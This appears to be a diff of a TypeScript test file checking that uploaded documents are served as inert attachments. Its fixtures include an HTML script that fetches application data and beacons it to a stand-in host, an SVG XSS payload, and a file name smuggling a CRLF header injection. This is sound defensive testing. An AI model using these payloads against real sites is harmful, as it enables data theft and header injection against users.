@@ -8,7 +8,9 @@ import { addDocument } from "../support/documents";
 import { startS3Server } from "../support/s3";
 import { startTestService, type TestService } from "../support/service";
 
-const HTML = Buffer.from(`<!doctype html><script>fetch("/api/v1/applications").then(r=>r.text()).then(t=>navigator.sendBeacon("http://127.0.0.1:1/x",t))</script>`);
+const HTML = Buffer.from(
+  `<!doctype html><script>fetch("/api/v1/applications").then(r=>r.text()).then(t=>navigator.sendBeacon("http://127.0.0.1:1/x",t))</script>`,
+);
 const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`);
 
 async function uploadedDocumentUrl(svc: TestService, bytes: Buffer, fileName: string, contentType: string): Promise<string> {
@@ -32,7 +34,7 @@ describe("local object route", () => {
   it.each([
     ["text/html", "invoice.html", HTML],
     ["image/svg+xml", "logo.svg", SVG],
-    ["application/xhtml+xml", "page\"\r\nX-Injected: 1.xhtml", HTML],
+    ["application/xhtml+xml", 'page"\r\nX-Injected: 1.xhtml', HTML],
     ["text/javascript", "x.js", Buffer.from("alert(1)")],
   ])("serves an uploaded %s document as an inert attachment", async (contentType, fileName, bytes) => {
     const url = await uploadedDocumentUrl(svc, bytes, fileName, contentType);
